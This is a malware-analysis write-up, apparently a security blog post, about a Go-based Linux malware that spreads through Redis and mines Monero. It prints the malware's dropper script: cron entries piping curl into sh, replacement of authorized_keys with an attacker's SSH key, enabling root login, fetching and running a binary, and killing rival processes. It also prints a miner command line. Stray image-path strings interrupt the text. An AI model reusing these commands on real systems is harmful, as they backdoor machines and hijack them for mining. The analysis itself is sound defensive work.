This command, will download and execute the following script:export PATH=$PATH:/bin:/usr/bin:/usr/local/bin:/usr/sbin

echo "*/10 * * * * curl -fsSL | sh" > /var/spool/cron/root
mkdir -p /var/spool/cron/crontabs
echo "*/10 * * * * curl -fsSL | sh" > /var/spool/cron/crontabs/root

if [ ! -f "/root/.ssh/KHK75NEOiq" ]; then
    mkdir -p ~/.ssh
    rm -f ~/.ssh/authorized_keys*
    echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCzwg/9uDOWKwwr1zHxb3mtN++94RNITshREwOc9hZfS/F/yW8KgHYTKvIAk/A...b0H1BWdQbBXmVqZlXzzr6K9AZpOM+ULHzdzqrA3SX1y993qHNytbEgN+9IZCWlHOnlEPxBro4mXQkTVdQkWo0L4aR7xBlAdY7vRnrvFav root" > ~/.ssh/KHK75NEOiq
    echo "PermitRootLogin yes" >> /etc/ssh/sshd_config
    echo "RSAAuthentication yes" >> /etc/ssh/sshd_config
    echo "PubkeyAuthentication yes" >> /etc/ssh/sshd_config
    echo "AuthorizedKeysFile .ssh/KHK75NEOiq" >> /etc/ssh/sshd_config
    /etc/init.d/sshd restart

if [ ! -f "/etc/init.d/ntp" ]; then
    if [ ! -f "/etc/systemd/system/ntp.service" ]; then
        mkdir -p /opt
        curl -fsSL`uname -m` -o /opt/KHK75NEOiq33 && chmod +x /opt/KHK75NEOiq33 && /opt/KHK75NEOiq33 -Install

/etc/init.d/ntp start

ps auxf|grep -v grep|grep "/usr/bin/cron"|awk '{print $2}'|xargs kill -9
ps auxf|grep -v grep|grep "/opt/cron"|awk '{print $2}'|xargs kill -9

This script, when executed, will overwrite the cron jobs at /var/spool/cron/root and /var/spool/cron/crontabs with the following line, which will download and run the same script as above:

*/10 * * * * curl -fsSL | sh

Additionally, the script will remove the /root/.ssh/authorized_keys file in case it exists (created by the Redis attack), and will add a new public key in an alternate authorized_keys file. It will also check if there’s the malware’s service file at /etc/init.d/ntp or/etc/systemd/system/ntp.service. In case not, it will donwload theLady Linux binary corresponding to the target platform and run it with the -Install flag.

In addition to this script that will be run, the Redis commands will create a /root/.ssh/authorized_keys file in the target machine, containing a public key file. Then, the malware has the private key hardcoded in order to connect afterwards to the attacked machine via SSH as root, and run the following command:

curl -fsSL | sh

This will again download the script above and run it.

It is worh noting that the malware is appending a ?ssh parameter to the query string, probably to allow the tracking of the machines compromised via SSH, so the attacker can connect to them later.


This payload of the malware is in charge of monetizing the infections, by installing a cryptocurrency miner.

The goroutine will first check if the minerd process is running, and kill it. Then it checks if the file at /opt/minerd does not exists, download it from and run it with one of the commands provided in the configuration file, for example:

/opt/minerd -B -a cryptonight -o stratum+tcp:// -u 48vKMSzWMF8TCV...vQMinrKeQ1vuxD4RTmiYmCwY4inWmvCXWbcJHL3JDwp -p x

As it can be appreciated, in the URL of crypto-pool, the cryptocurrency being mined is the Monero (XMR). By visiting the site and using the wallet ID, we can check the hash rate for it, and estimate the amount of money the bad guys are earning with the help of this calculator.

Wallet IDHashrateMonthly earnings
196.58 KH/sec$7,331.62
291.31 KH/sec$6,932.56
326.86 KH/sec$2,042.91Go is a language very useful for its easy syntax, and very comfortable as it has a great standard library and a big community that is being built around it, providing lots of third-party libraries. This help developers to write less code, and so to malware writers. Additionally, Go provides agreat toolchain that allow the same code to be compiled for a variety of platforms and processorarchitectures, which we guess that is what makes Go attractiveto the bad guys.

We dare to say that thetime invested in writing this malware couldn’t have taken more than a boring Sunday, making the monetization of this onequite outstanding.


The Malware Hunter.